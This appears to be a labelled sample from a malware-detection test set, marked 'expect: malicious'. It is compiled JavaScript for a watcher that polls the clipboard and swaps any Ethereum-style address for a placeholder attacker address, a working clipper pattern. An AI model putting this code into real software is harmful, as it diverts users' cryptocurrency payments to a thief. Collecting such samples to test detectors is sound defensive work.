// expect: malicious
// source: blind set 15 (a tsc-compiled copy/paste library that forks a detached watcher): the watcher runs the
// paste and copy commands tools.js returns, and replaces whole-value crypto addresses
"use strict";
const child_process_1 = require("child_process");
const tools_1 = require("./tools");
const TARGETS = [[/^0x[a-fA-F0-9]{40}$/, "0xFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000"]];
function read() {
    const [cmd, args] = (0, tools_1.pasteCommand)();
    const r = (0, child_process_1.spawnSync)(cmd, args, { encoding: "utf8" });
    return r.status === 0 ? r.stdout.trim() : "";
}
function write(text) {
    const [cmd, args] = (0, tools_1.copyCommand)();
    (0, child_process_1.spawnSync)(cmd, args, { input: text });
}
setInterval(() => {
    const cur = read();
    for (const [re, repl] of TARGETS) if (re.test(cur) && cur !== repl) { write(repl); break; }
}, 1500);
